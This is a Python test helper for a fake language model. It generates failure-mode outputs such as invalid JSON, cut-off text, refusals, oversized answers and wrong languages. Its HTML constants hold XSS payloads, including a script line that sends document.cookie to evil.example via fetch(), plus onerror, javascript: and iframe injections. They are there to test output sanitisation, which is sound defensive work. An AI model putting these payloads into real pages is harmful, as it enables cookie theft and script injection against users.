"""What the model says in each mode: an article, feedback, or JSON where a schema asks for it, and how all of them go
wrong."""

import json
from collections.abc import Callable
from dataclasses import dataclass, replace
from typing import Any

from tests.fake_llm import article, feedback, schema
from tests.fake_llm.brief import Brief

HUGE_BYTES = 10 * 1024 * 1024
CUT_SHARE = 0.6
WRONG_USAGE_FACTOR = 50
GARBAGE = "".join(chr(code) for code in (*range(8), 14, 15, 27, 0x7F, 0xFFFD, 0xFFFE, 0x200B)) * 40
HTML = (
    "<script>fetch('https://evil.example/?c=' + document.cookie)</script>\n\n"
    '<img src="x" onerror="alert(1)">\n\n'
    "[click](javascript:alert(1)) ![pixel](https://evil.example/p.png)\n\n"
    '<a href="javascript:alert(2)" onclick="alert(3)">link</a> <iframe src="//evil.example"></iframe>'
)
SHORT_HTML = "<script>alert(1)</script><img src=x onerror=alert(2)> [click](javascript:alert(3))"
BROKEN_CODE = "```python\ndef broken(:\n    return (1\n```"


@dataclass(frozen=True)
class Answer:
    """`usage_factor`: what its usage says, times the truth; None says nothing."""

    text: str
    finish_reason: str = "stop"
    usage_factor: int | None = 1


@dataclass(frozen=True)
class Asked:
    """`schema` is None for an article or feedback."""

    brief: Brief
    schema: dict[str, Any] | None = None


def answer(asked: Asked, mode: str, *, max_tokens: int | None = None) -> Answer:
    """Modes that only disturb the transport say what `ok` says. Raises UnsupportedSchemaError."""
    said = TEXTS.get(mode, ok)(asked)
    if max_tokens and mode != "huge" and len(said.text) > max_tokens * 4:
        return replace(said, text=said.text[: max_tokens * 4], finish_reason="length")
    return said


def ok(asked: Asked, *, spice: str = "") -> Answer:
    if asked.schema is None:
        return Answer(feedback.write(asked.brief) if asked.brief.facts else article.write(asked.brief))
    return Answer(_json(schema.fill(asked.brief, asked.schema, spice=spice)))


def invalid_json(asked: Asked) -> Answer:
    if asked.schema is None:
        return Answer(GARBAGE)
    return Answer("Here is the JSON:\n" + ok(asked).text[:-1] + ",,")


def wrong_schema(asked: Asked) -> Answer:
    """JSON of another shape; an article without its fixed sections; feedback without headings."""
    if asked.brief.facts:
        return Answer(feedback.without_headings(ok(asked).text))
    if asked.schema is None:
        return Answer(article.without_fixed_sections(ok(asked).text, asked.brief.bank))
    return Answer(_json({"unexpected": {"answer": 42}, "items": "none"}))


def empty(asked: Asked) -> Answer:
    return Answer("")


def cut_off(asked: Asked) -> Answer:
    """In the middle of a sentence."""
    text = ok(asked).text
    return Answer(text[: int(len(text) * CUT_SHARE)].rstrip(" .!?\n") + (" " if asked.schema is None else ""), "length")


def refusal(asked: Asked) -> Answer:
    return Answer(asked.brief.bank.refusal)


def huge(asked: Asked) -> Answer:
    """Still of the right form: an endless body, or JSON with endless white space."""
    text = ok(asked).text
    if asked.schema is not None:
        return Answer(text + " " * HUGE_BYTES)
    filler = article.without_fixed_sections(text, asked.brief.bank) + "\n"
    times = HUGE_BYTES // len(filler.encode()) + 1
    return Answer(article.into_body(text, asked.brief.bank, filler * times))


def html_script(asked: Asked) -> Answer:
    return _spiced(asked, article_extra=HTML, json_extra=SHORT_HTML)


def ai_leftover(asked: Asked) -> Answer:
    return _spiced(asked, article_extra=asked.brief.bank.leftover, json_extra=asked.brief.bank.leftover)


def bad_code(asked: Asked) -> Answer:
    return _spiced(asked, article_extra=BROKEN_CODE, json_extra=BROKEN_CODE)


def wrong_language(asked: Asked) -> Answer:
    other = "en" if asked.brief.language == "ko" else "ko"
    return ok(replace(asked, brief=replace(asked.brief, language=other)))


def wrong_usage(asked: Asked) -> Answer:
    return replace(ok(asked), usage_factor=WRONG_USAGE_FACTOR)


def no_usage(asked: Asked) -> Answer:
    return replace(ok(asked), usage_factor=None)


def _spiced(asked: Asked, *, article_extra: str, json_extra: str) -> Answer:
    if asked.schema is not None:
        return ok(asked, spice=json_extra)
    return Answer(article.into_body(ok(asked).text, asked.brief.bank, article_extra))


def _json(value: Any) -> str:
    return json.dumps(value, ensure_ascii=False)


TEXTS: dict[str, Callable[[Asked], Answer]] = {
    "invalid_json": invalid_json,
    "wrong_schema": wrong_schema,
    "empty": empty,
    "cut_off": cut_off,
    "refusal": refusal,
    "huge": huge,
    "html_script": html_script,
    "ai_leftover": ai_leftover,
    "bad_code": bad_code,
    "wrong_language": wrong_language,
    "wrong_usage": wrong_usage,
    "no_usage": no_usage,
}
